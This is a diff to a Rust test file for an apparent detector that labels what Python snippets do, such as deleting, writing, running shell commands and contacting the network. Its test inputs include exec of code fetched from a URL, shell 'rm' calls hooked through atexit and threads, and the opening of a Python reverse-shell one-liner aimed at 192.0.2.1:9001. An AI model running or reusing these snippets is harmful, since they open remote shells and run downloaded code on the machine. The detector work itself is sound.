@@ -26,12 +26,12 @@ fn acts() {
                 &["delete a", "delete b", "delete c"],
             ),
             ("from pathlib import Path; Path('/a', 'b').unlink(missing_ok=True)", &["delete /a/b"]),
-            ("open('out.txt', 'w').write('x')", &["write out.txt"]),
-            ("with open('log', mode='a') as f:\n    f.write('x')", &["append log"]),
+            ("open('out.txt', 'w').write('x')", &["write out.txt", "fill out.txt : x"]),
+            ("with open('log', mode='a') as f:\n    f.write('x')", &["append log", "fill log : x"]),
             ("open('data.json').read()", &["read data.json"]),
             (
                 "from pathlib import Path\nPath('a').write_text('x')\nPath('b').read_text()",
-                &["write a", "read b"],
+                &["write a", "fill a : x", "read b"],
             ),
             ("import os; os.truncate('x', 0)", &["write x"]),
             ("import os, shutil; os.rename('a', 'b'); shutil.copy('c', 'd')", &["move a | b", "copy c | d"]),
@@ -144,7 +144,16 @@ fn evaluates() {
                 "import urllib.request as u; exec(u.urlopen('http://h/x').read())",
                 &["connect http://h/x", "evaluate network"],
             ),
-            ("exec(input())", &["evaluate unknown"]),
+            ("exec(input())", &["evaluate input"]),
+            ("import sys, os\nfor line in sys.stdin: os.system(line)", &["evaluate input", "shell «?»"]),
+            ("import os, atexit; atexit.register(os.system, 'rm x')", &["shell rm x"]),
+            (
+                "import os, threading; threading.Thread(target=os.system, args=('rm x',)).start()",
+                &["shell rm x"],
+            ),
+            ("import atexit; atexit.register(print, 'rm x')", &[]),
+            ("f = g(); f('rm x')", &["indirect rm x"]),
+            ("judge('rm x'); m.judge('rm x')", &[]),
             ("exec(open('x.py').read())", &["read x.py", "evaluate unknown"]),
             (
                 "import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",9001));os.dup2(s.fileno(),0);\
